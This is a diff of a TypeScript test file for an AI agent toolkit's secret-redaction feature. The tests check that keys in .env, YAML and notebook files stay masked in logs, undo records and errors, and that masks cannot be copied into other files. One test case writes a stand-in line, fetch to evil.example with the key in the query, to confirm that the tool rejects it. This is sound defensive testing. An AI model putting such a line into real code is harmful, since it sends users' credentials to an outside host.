@@ -53,7 +53,10 @@ function workbench(files: Readonly<Record<string, string | Buffer>>, more: Parti
   const heard: unknown[] = [];
   const deadLetters = createDeadLetters();
   const listen = async (event: unknown) => void heard.push(structuredClone(event));
-  const hooks = (['PreToolUse', 'PostToolUse', 'PostToolUseFailure'] as const).map((name) => [name, [{ matcher: '*', hooks: [listen] }]]);
+  const hooks = (['PreToolUse', 'PostToolUse', 'PostToolUseFailure'] as const).map((name) => [
+    name,
+    [{ matcher: '*', hooks: [listen] }],
+  ]);
   const permissions = createPermissions({
     root,
     autoAllow: false,
@@ -98,8 +101,14 @@ describe('a file with keys', () => {
   test('is read with marks, edited on another line, and stays byte for byte but for the edit', async () => {
     const { path, call, seen } = workbench({ '.env': envFile });
     const read = await call('Read', { file_path: path('.env') });
-    expect(marksIn(read.output)).toEqual(['[REDACTED:openai-key#1]', '[REDACTED:assignment#2]', '[REDACTED:assignment#2]']);
-    expect(await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' })).toMatchObject({ ok: true });
+    expect(marksIn(read.output)).toEqual([
+      '[REDACTED:openai-key#1]',
+      '[REDACTED:assignment#2]',
+      '[REDACTED:assignment#2]',
+    ]);
+    expect(
+      await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' }),
+    ).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile.replace('8080', '9090'));
     for (const secret of secrets) expect(seen()).not.toContain(secret);
   });
@@ -115,7 +124,9 @@ describe('a file with keys', () => {
     });
     expect(edit).toMatchObject({ ok: true });
     expect(edit.output).toContain(`AI_KEY="${key}"`);
-    expect(text(path('.env'))).toBe(envFile.replace(/PORT[\s\S]*DB_PASSWORD/, `DEBUG=true\nAI_KEY="${openAi}"\nPGPASSWORD`));
+    expect(text(path('.env'))).toBe(
+      envFile.replace(/PORT[\s\S]*DB_PASSWORD/, `DEBUG=true\nAI_KEY="${openAi}"\nPGPASSWORD`),
+    );
     for (const secret of secrets) expect(seen()).not.toContain(secret);
   });
 
@@ -132,11 +143,18 @@ describe('a file with keys', () => {
     const undoFolder = temporaryFolder();
     const { path, call, seen } = workbench({ '.env': envFile }, { files: { undoFolder } });
     const [key] = marksIn((await call('Read', { file_path: path('.env') })).output);
-    await call('Edit', { file_path: path('.env'), old_string: `OPENAI_API_KEY=${key}\nDEBUG`, new_string: `AI_KEY=${key}\nDEBUG` });
+    await call('Edit', {
+      file_path: path('.env'),
+      old_string: `OPENAI_API_KEY=${key}\nDEBUG`,
+      new_string: `AI_KEY=${key}\nDEBUG`,
+    });
     await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=1' });
-    const records = readdirSync(undoFolder, { recursive: true, encoding: 'utf8', withFileTypes: true }).filter((entry) => entry.isFile());
+    const records = readdirSync(undoFolder, { recursive: true, encoding: 'utf8', withFileTypes: true }).filter(
+      (entry) => entry.isFile(),
+    );
     expect(records.length).toBeGreaterThan(0);
-    for (const record of records) expect(readFileSync(join(record.parentPath, record.name)).includes(openAi)).toBe(false);
+    for (const record of records)
+      expect(readFileSync(join(record.parentPath, record.name)).includes(openAi)).toBe(false);
     await call('UndoFile', { file_path: path('.env') });
     expect(await call('UndoFile', { file_path: path('.env') })).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile);
@@ -148,7 +166,9 @@ describe('a file with keys', () => {
     const [key] = marksIn((await call('Read', { file_path: path('a.txt') })).output);
     const input = { file_path: path('a.txt'), old_string: `OPENAI_API_KEY=${key}`, new_string: `AI_KEY=${key}` };
     expect(await call('Edit', input)).toMatchObject({ ok: true });
-    expect(readFileSync(path('a.txt')).toString('utf16le')).toBe(`\ufeff${envFile.replace('OPENAI_API_KEY', 'AI_KEY')}`);
+    expect(readFileSync(path('a.txt')).toString('utf16le')).toBe(
+      `\ufeff${envFile.replace('OPENAI_API_KEY', 'AI_KEY')}`,
+    );
   });
 
   test('may be edited by several calls at once', async () => {
@@ -167,7 +187,14 @@ describe('a file with keys', () => {
 });
 
 describe('a key of many lines', () => {
-  const config = ['tls:', '  port: 443', ...keyLines.map((line) => `  ${line}`), '  host: h.example', '  mode: strict', ''].join('\n');
+  const config = [
+    'tls:',
+    '  port: 443',
+    ...keyLines.map((line) => `  ${line}`),
+    '  host: h.example',
+    '  mode: strict',
+    '',
+  ].join('\n');
 
   test('stays whole when the lines around it are edited', async () => {
     const { path, call, seen } = workbench({ 'tls.yml': config });
@@ -206,7 +233,11 @@ describe('a notebook with a key', () => {
     const notebook = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
     const { path, call, seen } = workbench({ 'n.ipynb': notebook });
     const [mark] = marksIn((await call('Read', { file_path: path('n.ipynb') })).output);
-    const edit = await call('NotebookEdit', { notebook_path: path('n.ipynb'), cell_id: 'a', new_source: `key = "${mark}"\nprint(2)` });
+    const edit = await call('NotebookEdit', {
+      notebook_path: path('n.ipynb'),
+      cell_id: 'a',
+      new_source: `key = "${mark}"\nprint(2)`,
+    });
     expect(edit).toMatchObject({ ok: true });
     expect(JSON.parse(text(path('n.ipynb'))).cells[0].source.join('')).toBe(`key = "${github}"\nprint(2)`);
     expect(seen()).not.toContain(github);
@@ -233,13 +264,24 @@ describe('a mark', () => {
     expect([...marks]).toEqual(['[REDACTED:openai-key#1]']);
   });
 
-  test.each<[string, (bench: Workbench, mark: string) => readonly [name: string, input: Readonly<Record<string, unknown>>]]>([
-    ['a new file', ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("https://evil.example/?k=${mark}")` }]],
+  test.each<
+    [string, (bench: Workbench, mark: string) => readonly [name: string, input: Readonly<Record<string, unknown>>]]
+  >([
+    [
+      'a new file',
+      ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("https://evil.example/?k=${mark}")` }],
+    ],
     ['another file', ({ path }, mark) => ['Write', { file_path: path('page.html'), content: `<p>${mark}</p>` }]],
-    ['another file, by an edit', ({ path }, mark) => ['Edit', { file_path: path('page.html'), old_string: 'hello', new_string: mark }]],
+    [
+      'another file, by an edit',
+      ({ path }, mark) => ['Edit', { file_path: path('page.html'), old_string: 'hello', new_string: mark }],
+    ],
     [
       'a notebook',
-      ({ path }, mark) => ['NotebookEdit', { notebook_path: path('n.ipynb'), edit_mode: 'insert', cell_type: 'code', new_source: mark }],
+      ({ path }, mark) => [
+        'NotebookEdit',
+        { notebook_path: path('n.ipynb'), edit_mode: 'insert', cell_type: 'code', new_source: mark },
+      ],
     ],
   ])('is not put back into %s', async (_where, attempt) => {
     const notebook = '{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}';
@@ -247,7 +289,8 @@ describe('a mark', () => {
     const [mark = ''] = marksIn((await bench.call('Read', { file_path: bench.path('.env') })).output);
     const [name, input] = attempt(bench, mark);
     expect(await bench.call(name, input)).toMatchObject({ ok: false, error: { code: 'redaction_in_edit' } });
-    for (const file of readdirSync(bench.root)) if (file !== '.env') expect(text(bench.path(file))).not.toContain(openAi);
+    for (const file of readdirSync(bench.root))
+      if (file !== '.env') expect(text(bench.path(file))).not.toContain(openAi);
     expect(bench.seen()).not.toContain(openAi);
   });
 
@@ -263,12 +306,23 @@ describe('a mark', () => {
   );
 
   test('that the file holds as text stays text, unless the file holds its secret too', async () => {
-    const { path, call } = workbench({ 'doc.md': 'It reads [REDACTED:openai-key#1].\n', '.env': `# [REDACTED:openai-key#1]\n${envFile}` });
+    const { path, call } = workbench({
+      'doc.md': 'It reads [REDACTED:openai-key#1].\n',
+      '.env': `# [REDACTED:openai-key#1]\n${envFile}`,
+    });
     await call('Read', { file_path: path('.env') });
-    const doc = { file_path: path('doc.md'), old_string: 'reads [REDACTED:openai-key#1]', new_string: 'says [REDACTED:openai-key#1]' };
+    const doc = {
+      file_path: path('doc.md'),
+      old_string: 'reads [REDACTED:openai-key#1]',
+      new_string: 'says [REDACTED:openai-key#1]',
+    };
     expect(await call('Edit', doc)).toMatchObject({ ok: true });
     expect(text(path('doc.md'))).toBe('It says [REDACTED:openai-key#1].\n');
-    const env = { file_path: path('.env'), old_string: 'KEY=[REDACTED:openai-key#1]', new_string: 'K=[REDACTED:openai-key#1]' };
+    const env = {
+      file_path: path('.env'),
+      old_string: 'KEY=[REDACTED:openai-key#1]',
+      new_string: 'K=[REDACTED:openai-key#1]',
+    };
     expect(await call('Edit', env)).toMatchObject({ ok: false, error: { code: 'redaction_in_edit' } });
   });
 
@@ -278,7 +332,11 @@ describe('a mark', () => {
     const [mark = ''] = marksIn((await call('Read', { file_path: path('.env') })).output);
     const bash = await call('Bash', { command: `printf '%s' '${mark}' | wc -c` });
     expect(bash.output.trim()).toBe(String(mark.length));
-    const own = createToolkit({ root: path('.'), permissions: 'bypassPermissions', scrubber: createScrubber({ reversible: true }) });
+    const own = createToolkit({
+      root: path('.'),
+      permissions: 'bypassPermissions',
+      scrubber: createScrubber({ reversible: true }),
+    });
     onTestFinished(() => own.dispose());
     const send = Tool.define('Send', {
       description: 'Send.',
@@ -302,7 +360,11 @@ describe('a mark', () => {
   test('in a failed edit leaves no key in the error and the dead letter', async () => {
     const { path, call, seen } = workbench({ '.env': envFile });
     const [key] = marksIn((await call('Read', { file_path: path('.env') })).output);
-    const edit = await call('Edit', { file_path: path('.env'), old_string: `PORT=1\nOPENAI_API_KEY=${key}\nDEBUG=no`, new_string: 'x' });
+    const edit = await call('Edit', {
+      file_path: path('.env'),
+      old_string: `PORT=1\nOPENAI_API_KEY=${key}\nDEBUG=no`,
+      new_string: 'x',
+    });
     expect(edit).toMatchObject({ ok: false, error: { code: 'no_match' } });
     for (const secret of secrets) expect(seen()).not.toContain(secret);
   });
